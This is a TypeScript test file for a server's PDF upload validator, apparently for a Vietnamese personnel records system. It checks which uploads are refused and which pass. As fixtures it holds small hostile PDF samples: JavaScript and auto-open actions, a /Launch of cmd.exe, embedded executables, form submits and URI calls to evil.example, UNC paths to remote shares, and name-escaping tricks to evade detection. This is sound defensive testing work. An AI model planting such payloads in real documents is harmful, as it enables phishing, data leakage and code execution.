import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import {
  packedObjects,
  pdfStream,
  samplePdf,
  samplePicture,
  uploadForm,
} from '#server/test/samples/sample-files.ts'
import { startTestServer, type Caller, type TestServer } from '#server/test/harness.ts'
import { makePerson } from '#server/test/people.ts'

let server: TestServer
let minh: Caller
let idCanBo: string

beforeAll(async () => {
  server = await startTestServer()
  minh = await server.as('minh')
  idCanBo = (await makePerson(server, minh)).id
})
afterAll(() => server.stop())

const send = (content: Buffer, name = 'Quyết định.pdf', type = 'application/pdf') =>
  minh.upload('Files/upload-file-hs', uploadForm({ idCanBo, index: '4' }, content, { name, type }))

const notAPdf = 'Chỉ chấp nhận tệp PDF.'
const damaged = 'Tệp PDF bị hỏng hoặc không đọc được.'
const active = 'Tệp PDF chứa mã lệnh hoặc tệp nhúng nên không được chấp nhận.'
const outgoing = 'Tệp PDF chứa lệnh tự mở địa chỉ, gửi hoặc nạp dữ liệu bên ngoài nên không được chấp nhận.'
const encrypted = 'Tệp PDF đang được đặt mật khẩu. Vui lòng gỡ mật khẩu rồi tải lại.'
const whole = samplePdf()

describe('Papers', () => {
  test.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a program', notAPdf, () => Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(500)])],
    ['a page of HTML', notAPdf, () => Buffer.from('<html><script>alert(1)</script></html>')],
    ['an SVG', notAPdf, () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['an archive', notAPdf, () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200)])],
    ['a picture', notAPdf, () => samplePicture('png', 40, 40)],
    ['a PDF after other bytes', notAPdf, () => Buffer.concat([Buffer.from('GIF89a '), whole])],
    ['the first bytes alone', damaged, () => Buffer.from('%PDF-1.7\n')],
    ['an unknown version', damaged, () => Buffer.concat([Buffer.from('%PDF-9.x'), whole.subarray(8)])],
    ['a cut file', damaged, () => whole.subarray(0, whole.length - 60)],
    [
      'no table of objects',
      damaged,
      () => Buffer.from(whole.toString('latin1').replace('\nxref', '\nXREF'), 'latin1'),
    ],
    [
      'a page of HTML with a PDF’s beginning',
      damaged,
      () => Buffer.from('%PDF-1.5\n<html><script>alert(1)</script></html>'),
    ],
    [
      'a password',
      encrypted,
      () => samplePdf({ objects: ['<< /Filter /Standard /V 4 >>'], trailer: '/Encrypt 5 0 R' }),
    ],
    ['a script', active, () => samplePdf({ objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] })],
    [
      'a script with an escaped name',
      active,
      () => samplePdf({ objects: ['<< /S /J#61vaScript /JS (app.alert(1)) >>'] }),
    ],
    ['a script at opening', active, () => samplePdf({ trailer: '/OpenAction << /S /JavaScript /JS (x) >>' })],
    ['a program to launch', active, () => samplePdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] })],
    [
      'a launch with an escaped name',
      active,
      () => samplePdf({ objects: ['<< /S /#4caunch /F (cmd.exe) >>'] }),
    ],
    [
      'a file inside',
      active,
      () => samplePdf({ objects: [pdfStream('/Type /EmbeddedFile', Buffer.from('MZ'))] }),
    ],
    [
      'a file pinned to a page, without naming its kind',
      active,
      () =>
        samplePdf({
          objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', pdfStream('', Buffer.from('MZ'))],
        }),
    ],
    [
      'a pinned file’s mark',
      active,
      () => samplePdf({ objects: ['<< /Subtype /FileAttachment /FS 6 0 R >>'] }),
    ],
    ['a model in space', active, () => samplePdf({ objects: ['<< /Type /Annot /Subtype%x\n/3D >>'] })],
    [
      'a script of a model',
      active,
      () => samplePdf({ objects: [packedObjects('9 0 << /OnInst#61ntiate 6 0 R >>')] }),
    ],
    [
      'a script in a compressed table',
      active,
      () => samplePdf({ objects: [packedObjects('9 0 << /S /JavaScript /JS (x) >>')] }),
    ],
    [
      'an escaped script in a compressed table',
      active,
      () => samplePdf({ objects: [packedObjects('9 0 << /S /Java#53cript >>')] }),
    ],
    [
      'a password in a compressed table',
      encrypted,
      () => samplePdf({ objects: [packedObjects('9 0 << /Encrypt 3 0 R >>')] }),
    ],
    [
      'a table that is packed twice',
      damaged,
      () =>
        samplePdf({
          objects: [pdfStream('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', Buffer.from('x'))],
        }),
    ],
    [
      'a table that can’t be opened',
      damaged,
      () => samplePdf({ objects: [pdfStream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('garbage'))] }),
    ],
    [
      'a stream whose dictionary can’t be read',
      damaged,
      () => samplePdf({ objects: [pdfStream('/F (x) /X', Buffer.from('')), '<< >>'] }),
    ],
    [
      'a table that grows beyond measure',
      damaged,
      () => samplePdf({ objects: [packedObjects('0'.repeat(60_000_000))] }),
    ],
    [
      'objects inside a stream that is none',
      active,
      () =>
        samplePdf({ objects: ['(x)\n% >>\nstream\n9 0 obj << /S /#4caunch /F (x) >> endobj\nendstream'] }),
    ],
    ['nothing', 'Tệp tin không có nội dung.', () => Buffer.alloc(0)],
  ])('%s is refused', async (_, message, make) => {
    expect(await send(await make())).toMatchObject({ code: 27, status: 200, message, detail: [{ message }] })
  })

  const toAddress = '<< /S /URI /URI (http://evil.example/) >>'
  test.each<[string, () => Buffer]>([
    ['an address at opening', () => samplePdf({ trailer: `/OpenAction ${toAddress}` })],
    [
      'an address at opening in another object',
      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: [toAddress] }),
    ],
    [
      'an address at opening behind two references',
      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: ['6 0 R', toAddress] }),
    ],
    [
      'an opening with an escaped name',
      () => samplePdf({ trailer: '/Open#41ction 5 0 R', objects: [toAddress.replace('/URI', '/#55RI')] }),
    ],
    [
      'an opening with comments between',
      () => samplePdf({ trailer: `/OpenAction%x\n%y\n<<%z\n/S%\n/URI /URI (x)>>` }),
    ],
    [
      'an action at opening that is followed by another',
      () => samplePdf({ trailer: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${toAddress} >>` }),
    ],
    [
      'two actions under one number',
      () =>
        samplePdf({
          trailer: '/OpenAction 5 0 R',
          objects: ['[3 0 R /Fit]', `(x) endobj 5 0 obj ${toAddress}`],
        }),
    ],
    [
      'an action whose kind is another object',
      () => samplePdf({ trailer: '/OpenAction << /S 5 0 R >>', objects: ['/URI'] }),
    ],
    ['an opening that leads nowhere', () => samplePdf({ trailer: '/OpenAction 77 0 R' })],
    [
      'an address at opening in a compressed table',
      () => samplePdf({ objects: [packedObjects(`9 0 << /Type /Catalog /OpenAction ${toAddress} >>`)] }),
    ],
    [
      'an address in a compressed table, opened from outside',
      () => samplePdf({ trailer: '/OpenAction 9 0 R', objects: [packedObjects(`9 0 ${toAddress}`)] }),
    ],
    [
      'an address when a page is turned to',
      () => samplePdf({ objects: [`<< /Type /Page /AA << /O ${toAddress} >> >>`] }),
    ],
    [
      'the same in other objects',
      () => samplePdf({ objects: ['<< /Type /Page /AA 6 0 R >>', '<< /C 7 0 R >>', toAddress] }),
    ],
    ['a form that is sent', () => samplePdf({ objects: ['<< /S /SubmitForm /F (http://evil.example/) >>'] })],
    ['a form that is sent, escaped', () => samplePdf({ objects: ['<< /S /#53ubmitForm /F (x) >>'] })],
    [
      'a form that is sent, packed',
      () => samplePdf({ objects: [packedObjects('9 0 << /S /SubmitForm >>')] }),
    ],
    ['data that is fetched', () => samplePdf({ objects: ['<< /S /ImportData /F (\\\\host\\x) >>'] })],
    [
      'a document on another machine',
      () => samplePdf({ objects: ['<< /S /GoToR /F (\\\\host\\share\\a.pdf) /D [0 /Fit] >>'] }),
    ],
    [
      'the same, packed and escaped',
      () => samplePdf({ objects: [packedObjects('9 0 << /S /GoTo#52 /F (x) >>')] }),
    ],
    ['a form that is a program', () => samplePdf({ objects: ['<< /XFA [(config) 6 0 R] >>'] })],
    [
      'a file named by its address',
      () => samplePdf({ objects: ['<< /FS /URL /F (http://evil.example/x.jpg) >>'] }),
    ],
    [
      'an article in another document',
      () => samplePdf({ objects: ['<< /S /Thread /F (\\\\host\\x) /D 0 >>'] }),
    ],
    [
      'a page of another document as a picture',
      () =>
        samplePdf({
          objects: [pdfStream('/Subtype /Form /Ref << /F (\\\\host\\x) /Page 0 >>', Buffer.from(''))],
        }),
    ],
    [
      'a picture that the printer fetches',
      () => samplePdf({ objects: ['<< /OPI << /2.0 << /F (x) >> >> >>'] }),
    ],
    [
      'a stream whose content is elsewhere',
      () => samplePdf({ objects: [pdfStream('/F (\\\\host\\x)', Buffer.from(''))] }),
    ],
    [
      'the same, with the beginning of an object in a string',
      () => samplePdf({ objects: [pdfStream('/F (\\\\host\\x) /X (9 0 obj <<)', Buffer.from(''))] }),
    ],
    [
      'the same, before a long text',
      () => samplePdf({ objects: [pdfStream(`/F (x) /X (${'x'.repeat(20_000)})`, Buffer.from(''))] }),
    ],
    [
      'a page of another file behind a reference',
      () =>
        samplePdf({
          objects: [
            pdfStream('/Subtype /Form /Ref 6 0 R', Buffer.from('')),
            '<< /F (\\\\host\\x) /Page 0 >>',
          ],
        }),
    ],
    [
      'the same, escaped and behind a reference',
      () => samplePdf({ objects: [pdfStream('/#46 7 0 R', Buffer.from(''))] }),
    ],
    ['a film from elsewhere', () => samplePdf({ objects: ['<< /S /Rendition /R 6 0 R >>'] })],
  ])('%s is refused', async (_, make) => {
    expect(await send(make())).toMatchObject({ code: 27, status: 200, message: outgoing })
  })

  test.each<[string, () => Buffer]>([
    ['a page to begin at', () => samplePdf({ trailer: '/OpenAction [3 0 R /Fit]' })],
    [
      'a page to begin at, as an action',
      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: ['<< /S /GoTo /D [3 0 R /XYZ 0 0 1] >>'] }),
    ],
    [
      'a page to begin at, packed',
      () =>
        samplePdf({
          trailer: '/OpenAction 9 0 R',
          objects: [packedObjects('9 0 << /Type /Action /S /GoTo /D [3 0 R /Fit] >>')],
        }),
    ],
    [
      'a link that somebody presses',
      () => samplePdf({ objects: [`<< /Type /Annot /Subtype /Link /A ${toAddress} >>`] }),
    ],
    [
      'a font that is called AA',
      () =>
        samplePdf({
          objects: [
            '<< /Font << /AA 6 0 R >> >>',
            '<< /Type /Font /FontDescriptor 7 0 R >>',
            '<< /Type /FontDescriptor >>',
          ],
        }),
    ],
    [
      'a picture with a font that is called F',
      () =>
        samplePdf({
          objects: [pdfStream('/Subtype /Form /Resources << /Font << /F 3 0 R >> >>', Buffer.from('q Q'))],
        }),
    ],
    ['a note’s reference in a structure', () => samplePdf({ objects: ['<< /S /FENote /Ref [6 0 R] >>'] })],
    [
      'the same behind a reference, and names that begin so',
      () => samplePdf({ objects: ['<< /S /FENote /Ref 6 0 R /Ref12 [3 0 R /Fit] >>', '[5 0 R]'] }),
    ],
    [
      'many annotations with flags before a stream',
      () =>
        samplePdf({
          objects: [
            ...Array.from({ length: 2_000 }, () => '<< /Type /Annot /Subtype /Widget /F 4 >>'),
            pdfStream('', Buffer.from('q Q')),
          ],
        }),
    ],
    ['a font whose name begins so', () => samplePdf({ objects: ['<< /BaseFont /AAAAAA+Times >>'] })],
  ])('%s passes', async (_, make) => {
    expect(await send(make())).toMatchObject({ code: 0 })
  })

  test('Content after the end of a PDF stays part of the file', async () => {
    const up = await send(Buffer.concat([whole, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]))
    const answer = await minh.raw(`Files/view/${up.data.fileId}`)
    expect(answer.headers.get('content-type')).toBe('application/pdf')
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
  })

  test('Compressed data that looks like a name passes', async () => {
    const stream = pdfStream('/Filter /DCTDecode', Buffer.from('\u00ff/JS \u00fe/JS(', 'latin1'))
    const table = packedObjects('9 0 << /Type /Font /BaseFont /ABCDEE+Times#20New#20Roman >>')
    expect(await send(samplePdf({ objects: [stream, table] }))).toMatchObject({ code: 0 })
  })

  test('More than 20 MB is refused with the reason, much more immediately', async () => {
    const large = Buffer.concat([whole, Buffer.alloc(20 * 1_048_576)])
    expect(await send(large)).toMatchObject({
      code: 27,
      message: 'Dung lượng tệp PDF không được vượt quá 20 MB.',
    })
    expect((await send(Buffer.alloc(65 * 1_048_576))).status).toBe(413)
  })
})
